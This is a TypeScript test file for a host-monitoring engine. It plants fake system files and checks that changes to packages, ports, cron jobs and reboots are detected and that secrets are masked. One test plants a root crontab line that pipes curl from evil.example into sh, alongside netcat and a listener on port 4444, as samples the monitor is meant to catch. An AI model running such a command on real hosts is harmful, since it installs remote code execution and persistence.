import { chmod, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, beforeEach, expect, it, vi } from 'vitest'
import { databaseNow, sql } from '@/lib/db/database'
import { addTestSystem, testEngine, workDue } from '@/scripts/testing/engine-fixture'
import { createTestDatabase, emptyTables, type TestDatabase } from '@/scripts/testing/test-database'
import type { Engine } from './engine'

// The whole way on a host of planted files: what is changed there stands among the changes, and faults open findings.
// The worker's own host is neither changed nor read here.

const planted = vi.hoisted(() => ({ proc: '', root: '', platform: 'linux' as const }))
vi.mock('@/lib/probes/own-host', () => ({ ownHost: planted }))

let database: TestDatabase
let engine: Engine
let checks: Map<string, string>

const put = async (path: string, text: string, mode = 0o644) => {
  const full = join(planted.root, path)
  await mkdir(dirname(full), { recursive: true })
  await writeFile(full, text)
  await chmod(full, mode)
}
const socket = (address: string, port: number, { state = '0A', uid = 0 } = {}) =>
  `   0: ${address}:${port.toString(16).toUpperCase().padStart(4, '0')} 00000000:0000 ${state} 00000000:00000000 00:00000000 00000000  ${uid}        0 1 1 0 100 0 0 10 0`
const anywhere = '00000000'
const local = '0100007F'
const header = '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid'
const sockets = (...lines: string[]) => `${[header, ...lines].join('\n')}\n`
const dpkg = (packages: Record<string, string>, state = 'installed') =>
  Object.entries(packages)
    .map(
      ([name, version]) =>
        `Package: ${name}\nStatus: install ok ${state}\nArchitecture: amd64\nVersion: ${version}\nDescription: x\n x: y\n`,
    )
    .join('\n')

const boot = async (id: string, running = '6.1.0-28-amd64') => {
  await put('proc/sys/kernel/random/boot_id', `${id}-0000-4000-8000-000000000000\n`)
  await put('proc/sys/kernel/osrelease', `${running}\n`)
  await put('proc/uptime', '864000.12 99.1\n')
}

beforeAll(async () => {
  database = await createTestDatabase()
})
afterAll(() => database?.drop())

beforeEach(async () => {
  await emptyTables('system', 'run', 'sample', 'state_change', 'series', 'worker', 'duty')
  planted.root = await mkdtemp(join(tmpdir(), 'wheeltapper-host-'))
  planted.proc = join(planted.root, 'proc')
  await boot('aaaaaaaa')
  await put('boot/vmlinuz-6.1.0-28-amd64', '')
  await put(
    'proc/net/tcp',
    sockets(socket(anywhere, 443), socket(local, 5432, { uid: 101 }), socket(local, 43_211)),
  )
  await put(
    'proc/net/udp',
    sockets(socket(anywhere, 123, { state: '07' }), socket(anywhere, 50_123, { state: '07' })),
  )
  await put('etc/passwd', 'root:x:0:0::/root:/bin/sh\npostgres:x:101:101::/var/lib/postgresql:/bin/sh\n')
  await put('var/lib/dpkg/status', dpkg({ openssl: '3.0.15-1', sudo: '1.9.13p3' }))
  await put('etc/crontab', 'SHELL=/bin/sh\n# a comment\n17 * * * * root run-parts /etc/cron.hourly\n')
  await put(
    'etc/cron.d/backup',
    'PGPASSWORD=hunter2\n0 2 * * * postgres pg_dump shop | gzip > /backups/shop.gz\n',
  )
  await put('etc/cron.daily/logrotate', '#!/bin/sh\nlogrotate /etc/logrotate.conf\n', 0o755)
  await put('var/spool/cron/crontabs/root', '@reboot /usr/local/bin/warm-cache\n', 0o600)
  await put('usr/lib/systemd/system/certbot.timer', '[Timer]\nOnCalendar=*-*-* 00,12:00:00\n')
  await put('usr/lib/systemd/system/certbot.service', '[Service]\nExecStart=/usr/bin/certbot -q renew\n')
  await mkdir(join(planted.root, 'etc/systemd/system/timers.target.wants'), { recursive: true })
  await symlink(
    '/usr/lib/systemd/system/certbot.timer',
    join(planted.root, 'etc/systemd/system/timers.target.wants/certbot.timer'),
  )
  await database.setNow(new Date())
  engine = await testEngine()
  const kinds = ['host.reboot_required', 'host.packages', 'sec.open_ports', 'sec.cron_new']
  const { checkIds } = await addTestSystem(
    { kind: 'host', address: 'this host', config: {} },
    kinds.map((kind) => ({ kind, failAfter: 1, okAfter: 1 })),
  )
  checks = new Map(kinds.map((kind, index) => [kind, checkIds[index] ?? '']))
  await workDue(engine)
  return () => rm(planted.root, { recursive: true })
})

async function lookAgain(): Promise<void> {
  await database.setNow(new Date((await databaseNow()).getTime() + 61 * 60_000))
  await sql().query('update check_schedule set next_due_at = app_now()')
  await workDue(engine)
}

async function changes() {
  const { rows } = await sql().query<{
    subject: string
    key: string
    kind: string
    before: string | null
    after: string | null
  }>('select subject, key, kind, before, after from system_change order by at, subject, key, id')
  return rows
}

async function verdict(kind: string) {
  const { rows } = await sql().query<{ verdict: string; reason: string }>(
    'select verdict, reason from check_state where check_id = $1',
    [checks.get(kind)],
  )
  return rows[0]
}

it('keeps what it saw, and no secret of it', async () => {
  await lookAgain()
  expect(await changes()).toEqual([])
  const { rows } = await sql().query<{ facts: Record<string, Record<string, string>> }>(
    'select facts from observation',
  )
  const facts = Object.assign({}, ...rows.map((row) => row.facts))
  expect(facts.port).toEqual({
    'tcp 0.0.0.0:443': 'root',
    'tcp 127.0.0.1:5432': 'postgres',
    'udp 0.0.0.0:123': 'root',
  })
  expect(facts.package).toEqual({ openssl: '3.0.15-1', sudo: '1.9.13p3' })
  expect(facts.schedule).toMatchObject({
    '/etc/crontab: run-parts /etc/cron.hourly': '17 * * * * as root',
    '/etc/crontab: variable SHELL': 'SHELL=/bin/sh',
    '/etc/cron.d/backup: variable PGPASSWORD': 'PGPASSWORD=***',
    '/etc/cron.d/backup: pg_dump shop | gzip > /backups/shop.gz': '0 2 * * * as postgres',
    'crontab of root: /usr/local/bin/warm-cache': '@reboot',
    'timer certbot': 'on, *-*-* 00,12:00:00, runs /usr/bin/certbot -q renew',
  })
  const { rows: everywhere } = await sql().query(
    `select 1 from run where evidence::text like '%hunter2%' or reason like '%hunter2%'`,
  )
  expect(everywhere).toEqual([])
  expect(JSON.stringify(facts)).not.toContain('hunter2')
})

it('shows packages, ports, schedules and a restart that nobody announced', async () => {
  await put('var/lib/dpkg/status', dpkg({ openssl: '3.0.16-1', netcat: '1.219-1' }))
  await put('proc/net/tcp', sockets(socket(anywhere, 443), socket(anywhere, 4_444, { uid: 33 })))
  await put(
    'etc/cron.d/backup',
    'PGPASSWORD=hunter2\n0 4 * * * postgres pg_dump shop | gzip > /backups/shop.gz\n',
  )
  await put('etc/cron.daily/logrotate', '#!/bin/sh\ntrue\n', 0o755)
  await put(
    'var/spool/cron/crontabs/root',
    '* * * * * curl -s https://x:hunter2@evil.example/a | sh\n',
    0o600,
  )
  await boot('bbbbbbbb')
  await lookAgain()
  const found = await changes()
  expect(found.map(({ subject, key, kind }) => [subject, key, kind])).toEqual([
    ['package', 'netcat', 'added'],
    ['package', 'openssl', 'changed'],
    ['package', 'sudo', 'removed'],
    ['port', 'tcp 0.0.0.0:4444', 'added'],
    ['port', 'tcp 127.0.0.1:5432', 'removed'],
    ['restart', 'host', 'changed'],
    ['schedule', '/etc/cron.d/backup: pg_dump shop | gzip > /backups/shop.gz', 'changed'],
    ['schedule', '/etc/cron.daily/logrotate', 'changed'],
    ['schedule', 'crontab of root: /usr/local/bin/warm-cache', 'removed'],
    ['schedule', 'crontab of root: curl -s https://x:***@evil.example/a | sh', 'added'],
  ])
  expect(found[1]).toMatchObject({ before: '3.0.15-1', after: '3.0.16-1' })
  await lookAgain()
  expect(await changes()).toHaveLength(found.length)
})

it.skipIf(process.getuid?.() === 0)(
  'takes crontabs that it may not read for neither gone nor new',
  async () => {
    await chmod(join(planted.root, 'var/spool/cron/crontabs'), 0o000)
    await lookAgain()
    await chmod(join(planted.root, 'var/spool/cron/crontabs'), 0o755)
    await lookAgain()
    expect(await changes()).toEqual([])
  },
)

it('takes a package list that is gone for unknown, not for an empty host', async () => {
  await rm(join(planted.root, 'var/lib/dpkg/status'))
  await lookAgain()
  expect(await verdict('host.packages')).toMatchObject({ verdict: 'unknown' })
  await put('var/lib/dpkg/status', dpkg({ openssl: '3.0.15-1', sudo: '1.9.13p3' }))
  await lookAgain()
  expect(await changes()).toEqual([])
})

it('warns and fails for what is wrong, and heals', async () => {
  await put('boot/vmlinuz-6.1.0-31-amd64', '')
  await put('var/lib/dpkg/status', dpkg({ openssl: '3.0.15-1' }, 'half-configured'))
  await put('proc/net/tcp', sockets(socket(anywhere, 6_379)))
  await put('etc/cron.d/backup', '0 2 * * * postgres true\n', 0o666)
  await lookAgain()
  expect(await verdict('host.reboot_required')).toMatchObject({
    verdict: 'warn',
    reason: expect.stringContaining('6.1.0-31-amd64'),
  })
  expect(await verdict('host.packages')).toMatchObject({
    verdict: 'fail',
    reason: expect.stringContaining('half-configured'),
  })
  expect(await verdict('sec.open_ports')).toMatchObject({
    verdict: 'warn',
    reason: expect.stringContaining('Redis'),
  })
  expect(await verdict('sec.cron_new')).toMatchObject({
    verdict: 'fail',
    reason: expect.stringContaining('by everybody'),
  })
  expect((await sql().query('select 1 from finding')).rowCount).toBe(4)

  await boot('aaaaaaaa', '6.1.0-31-amd64')
  await put('var/lib/dpkg/status', dpkg({ openssl: '3.0.15-1' }))
  await put('proc/net/tcp', sockets(socket(local, 6_379)))
  await put('etc/cron.d/backup', '0 2 * * * postgres true\n')
  await lookAgain()
  for (const kind of checks.keys()) expect(await verdict(kind), kind).toMatchObject({ verdict: 'ok' })
})

it('keeps a flood as a flood: a thousand lines and how many more', async () => {
  const many = Object.fromEntries(
    Array.from({ length: 1_500 }, (_one, index) => [`lib-${String(index).padStart(4, '0')}`, '1']),
  )
  await put('var/lib/dpkg/status', dpkg({ openssl: '3.0.15-1', sudo: '1.9.13p3', ...many }))
  await lookAgain()
  const found = await changes()
  expect(found).toHaveLength(1_001)
  expect(found.map(({ key }) => key)).toContain('500 more')
})
